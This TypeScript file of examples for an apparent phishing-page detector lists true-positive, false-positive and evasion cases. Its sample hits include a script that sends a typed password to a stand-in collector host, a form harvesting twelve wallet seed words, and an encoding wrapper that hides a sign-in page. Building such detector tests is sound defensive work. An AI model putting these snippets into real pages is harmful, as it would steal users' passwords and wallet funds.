import type { Examples } from "@doorward/core";
import { makePage, makeSignIn, makeWriter } from "../example-pages.ts";

/** Pages that do it, and pages that only look like it. */
export const examples: Examples = {
  hits: [
    {
      name: "a form that is sent",
      delivered: true,
      files: { "Document.html": makeSignIn("https://collect.example/in") },
    },
    {
      name: "a script that sends the password",
      delivered: true,
      files: {
        "Document.html": makePage(
          `<input type="password" id="p"><script>go.onclick = function () { fetch("https://collect.example/in", { method: "POST", body: p.value }) }</script>`,
        ),
      },
    },
    {
      name: "twelve words of a wallet",
      delivered: true,
      files: {
        "Restore.html": makePage(
          `<form action="https://restore.example/in">${Array.from({ length: 12 }, (_, index) => `<input name="word${index + 1}">`).join("")}</form>`,
        ),
      },
    },
  ],
  misses: [
    {
      name: "a page saved from the site it signs in to",
      why: "It posts to where it was saved from.",
      delivered: true,
      files: {
        "login.html": `<!doctype html><!-- saved from url=(0027)https://accounts.example/in -->${makeSignIn("https://accounts.example/in")}`,
      },
    },
    {
      name: "a page that a password opens",
      why: "The password stays in the page, which decrypts itself with it.",
      delivered: true,
      files: {
        "locked.html": makePage(
          `<input type="password" id="p"><script>go.onclick = function () { decrypt(p.value) }</script>`,
        ),
      },
    },
    {
      name: "a form for a newsletter",
      why: "It asks for an address of mail.",
      delivered: true,
      files: {
        "news.html": makePage(`<form action="https://news.example/join"><input type="email" name="mail"></form>`),
      },
    },
  ],
  evasions: [
    {
      name: "the page behind an encoding",
      caughtBy: "file/page-hides-page",
      delivered: true,
      files: { "Document.html": makeWriter(makeSignIn("https://collect.example/in")) },
    },
  ],
};
